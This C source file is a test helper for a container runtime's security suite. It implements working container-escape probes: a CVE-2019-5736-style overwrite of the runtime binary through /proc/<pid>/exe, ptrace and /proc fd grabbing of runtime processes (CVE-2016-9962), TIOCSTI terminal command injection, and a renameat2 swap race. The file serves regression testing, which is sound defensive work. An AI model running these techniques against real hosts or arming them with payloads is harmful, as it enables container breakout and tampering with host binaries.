/* Attacker and probe for the runtime security checks (tests/runtime/sec-*.sh).
   Built by the tests with `cc -static` and copied into a container rootfs,
   so it depends on nothing there.  Modes:
     fdscan N          fds other than 0..N-1 are reported
     cwd               print getcwd()
     exe-attack FILE   until FILE exists: grab /proc/<pid>/exe of every
                       process, try to open it for writing directly and
                       through /proc/self/fd, write; report seals seen
     ptrace-watch FILE until FILE exists: PTRACE_ATTACH and open
                       the fds in /proc/<pid>/fd of every new pid; success while
                       the target still runs the runtime is a breach
     tiocsti           push characters into fd 0's terminal
     status            Uid/NoNewPrivs/Cap* lines of /proc/self/status
     seals PID         seals of /proc/PID/exe, and whether it opens for writing
     swap A B STOP     (host side) exchange A and B with renameat2 until STOP exists */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#define F_SEAL_WRITE 0x0008
#endif

/* every open fd at or above `allowed` is a leak; stdio and preserved fds
   may name host files (the caller handed them over), so they are not judged */
static int
fdscan (int allowed)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *e;
  int bad = 0;

  if (d == NULL)
    {
      perror ("fdscan: /proc/self/fd");
      return 2;
    }
  while ((e = readdir (d)))
    {
      char link[PATH_MAX + 1], p[64];
      ssize_t n;
      int fd;

      if (e->d_name[0] == '.')
        continue;
      fd = atoi (e->d_name);
      if (fd == dirfd (d) || fd < allowed)
        continue;
      snprintf (p, sizeof (p), "/proc/self/fd/%d", fd);
      n = readlink (p, link, sizeof (link) - 1);
      link[n > 0 ? n : 0] = '\0';
      printf ("LEAK fd %d -> %s\n", fd, link);
      bad = 1;
    }
  closedir (d);
  if (!bad)
    printf ("fdscan ok\n");
  return bad;
}

static int
cwd_probe (void)
{
  char buf[PATH_MAX];

  if (getcwd (buf, sizeof (buf)) == NULL)
    printf ("CWD-ERROR %s\n", strerror (errno));
  else
    printf ("CWD %s\n", buf);
  return 0;
}

static int
is_pid_dir (const char *name)
{
  for (; *name; name++)
    if (*name < '0' || *name > '9')
      return 0;
  return 1;
}

/* ---- CVE-2019-5736 ---- */

#define MAX_GRAB 512

static int
exe_attack (const char *stop)
{
  static int grabbed[MAX_GRAB], seen_pid[65536];
  int n_grab = 0, sealed = 0, unsealed = 0, wopen = 0, reopen = 0, writes = 0, self = getpid ();

  while (access (stop, F_OK) < 0)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      int i;

      while (d && (e = readdir (d)))
        {
          char p[64], link[PATH_MAX + 1];
          ssize_t n;
          int pid, fd;

          if (!is_pid_dir (e->d_name))
            continue;
          pid = atoi (e->d_name);
          if (pid == self || pid <= 0 || pid >= 65536)
            continue;
          snprintf (p, sizeof (p), "/proc/%d/exe", pid);
          n = readlink (p, link, sizeof (link) - 1);
          if (n <= 0)
            continue;
          link[n] = '\0';
          if (!strstr (link, "berth-runtime"))
            continue;
          /* the direct way: the kernel must refuse (ETXTBSY, EACCES) */
          fd = open (p, O_WRONLY | O_CLOEXEC);
          if (fd >= 0)
            {
              wopen++;
              if (pwrite (fd, "BRTH", 4, 0) == 4)
                writes++;
              close (fd);
            }
          if (seen_pid[pid] || n_grab >= MAX_GRAB)
            continue;
          fd = open (p, O_RDONLY | O_CLOEXEC);
          if (fd < 0)
            continue;
          seen_pid[pid] = 1;
          {
            int s = fcntl (fd, F_GET_SEALS);
            if (s >= 0 && (s & F_SEAL_WRITE))
              sealed++;
            else
              unsealed++;
          }
          grabbed[n_grab++] = fd;
        }
      if (d)
        closedir (d);
      /* the 2019 exploit: once the runtime is not running any more, the
         read-only fd can be reopened for writing through /proc/self/fd */
      for (i = 0; i < n_grab; i++)
        {
          char p[64];
          int fd;
          snprintf (p, sizeof (p), "/proc/self/fd/%d", grabbed[i]);
          fd = open (p, O_WRONLY | O_CLOEXEC);
          if (fd < 0)
            continue;
          reopen++;
          if (pwrite (fd, "BRTH", 4, 0) == 4)
            writes++;
          close (fd);
        }
    }
  printf ("exe-attack grabbed=%d sealed=%d unsealed=%d wopen=%d reopen=%d writes=%d\n", n_grab, sealed, unsealed, wopen,
          reopen, writes);
  return 0;
}

/* ---- CVE-2016-9962 ---- */

static int
runs_runtime (int pid)
{
  char p[64], link[PATH_MAX + 1];
  ssize_t n;

  snprintf (p, sizeof (p), "/proc/%d/exe", pid);
  n = readlink (p, link, sizeof (link) - 1);
  if (n <= 0)
    return -1; /* unknown: not dumpable, or gone */
  link[n] = '\0';
  return strstr (link, "berth-runtime") != NULL;
}

/* 1 when an fd of pid could be opened while pid still ran the runtime (a
   process never goes back from the user program to the runtime binary) */
static int
fd_breach (int pid)
{
  char p[64];
  DIR *d;
  struct dirent *e;
  int opened = 0;

  snprintf (p, sizeof (p), "/proc/%d/fd", pid);
  d = opendir (p);
  if (d == NULL)
    return 0;
  while ((e = readdir (d)))
    {
      char q[300];
      int fd;
      if (e->d_name[0] == '.')
        continue;
      snprintf (q, sizeof (q), "/proc/%d/fd/%s", pid, e->d_name);
      fd = open (q, O_PATH | O_CLOEXEC);
      if (fd >= 0)
        {
          opened = 1;
          close (fd);
        }
    }
  closedir (d);
  return opened && runs_runtime (pid) == 1;
}

static int
ptrace_watch (const char *stop)
{
  static unsigned char state[65536]; /* 0 new, 1 watching, 2 done */
  int self = getpid (), targets = 0, denied = 0, denied_early = 0, attached_late = 0, breaches = 0;

  signal (SIGCHLD, SIG_DFL);
  while (access (stop, F_OK) < 0)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;

      while (d && (e = readdir (d)))
        {
          int pid, before;
          if (!is_pid_dir (e->d_name))
            continue;
          pid = atoi (e->d_name);
          if (pid == self || pid == 1 || pid <= 0 || pid >= 65536 || state[pid] == 2)
            continue;
          if (state[pid] == 0)
            {
              state[pid] = 1;
              targets++;
            }
          before = runs_runtime (pid);
          if (ptrace (PTRACE_ATTACH, pid, NULL, NULL) == 0)
            {
              int st;
              waitpid (pid, &st, __WALL);
              /* stopped (or gone): it cannot exec under us now */
              if (runs_runtime (pid) == 1)
                {
                  breaches++;
                  printf ("BREACH attached to pid %d before it exec'd the user program\n", pid);
                }
              else
                attached_late++;
              ptrace (PTRACE_DETACH, pid, NULL, NULL);
              /* the stop we saw may have been the exec SIGTRAP, with our
                 SIGSTOP still pending: never leave the target stopped */
              kill (pid, SIGCONT);
              state[pid] = 2;
              continue;
            }
          if (errno == EPERM || errno == EACCES)
            {
              denied++;
              if (before != 0)
                denied_early++;
            }
          if (fd_breach (pid))
            {
              breaches++;
              printf ("BREACH opened /proc/%d/fd/* before it exec'd the user program\n", pid);
            }
        }
      if (d)
        closedir (d);
    }
  printf ("ptrace-watch targets=%d denied=%d denied_early=%d attached_late=%d breaches=%d\n", targets, denied,
          denied_early, attached_late, breaches);
  return 0;
}

static int
tiocsti (void)
{
  const char *s = "echo RT-INJECTED\n";
  int ok = 0, fail_errno = 0, fd;

  for (; *s; s++)
    if (ioctl (0, TIOCSTI, s) == 0)
      ok++;
    else
      fail_errno = errno;
  fd = open ("/dev/tty", O_RDWR | O_CLOEXEC);
  printf ("tiocsti pushed=%d errno=%d sid=%d ctty=%s\n", ok, fail_errno, (int) getsid (0), fd >= 0 ? "yes" : "no");
  return 0;
}

static int
status (void)
{
  FILE *f = fopen ("/proc/self/status", "re");
  char line[256];

  if (f == NULL)
    return 2;
  while (fgets (line, sizeof (line), f))
    if (strncmp (line, "Uid:", 4) == 0 || strncmp (line, "Cap", 3) == 0 || strncmp (line, "NoNewPrivs:", 11) == 0)
      fputs (line, stdout);
  fclose (f);
  printf ("euid=%d\n", (int) geteuid ());
  return 0;
}

static int
seals (const char *pid)
{
  char p[64];
  int fd, s, w;

  snprintf (p, sizeof (p), "/proc/%s/exe", pid);
  fd = open (p, O_RDONLY | O_CLOEXEC);
  s = fd >= 0 ? fcntl (fd, F_GET_SEALS) : -1;
  w = open (p, O_WRONLY | O_CLOEXEC);
  printf ("seals=%d write-seal=%s wopen=%s\n", s, s >= 0 && (s & F_SEAL_WRITE) ? "yes" : "no", w >= 0 ? "yes" : "no");
  return 0;
}

static int
swap (const char *a, const char *b, const char *stop)
{
  unsigned long n = 0;

  while (access (stop, F_OK) < 0)
    {
      int i;
      for (i = 0; i < 1000; i++, n++)
        if (renameat2 (AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
          {
            perror ("swap: renameat2");
            return 2;
          }
    }
  printf ("swapped %lu times\n", n);
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc >= 3 && strcmp (argv[1], "fdscan") == 0)
    return fdscan (atoi (argv[2]));
  if (argc >= 2 && strcmp (argv[1], "cwd") == 0)
    return cwd_probe ();
  if (argc >= 3 && strcmp (argv[1], "exe-attack") == 0)
    return exe_attack (argv[2]);
  if (argc >= 3 && strcmp (argv[1], "ptrace-watch") == 0)
    return ptrace_watch (argv[2]);
  if (argc >= 2 && strcmp (argv[1], "tiocsti") == 0)
    return tiocsti ();
  if (argc >= 2 && strcmp (argv[1], "status") == 0)
    return status ();
  if (argc >= 3 && strcmp (argv[1], "seals") == 0)
    return seals (argv[2]);
  if (argc >= 5 && strcmp (argv[1], "swap") == 0)
    return swap (argv[2], argv[3], argv[4]);
  fprintf (stderr, "usage: rtsec-helper fdscan N|cwd|exe-attack STOP|ptrace-watch STOP|tiocsti|status\n");
  return 2;
}
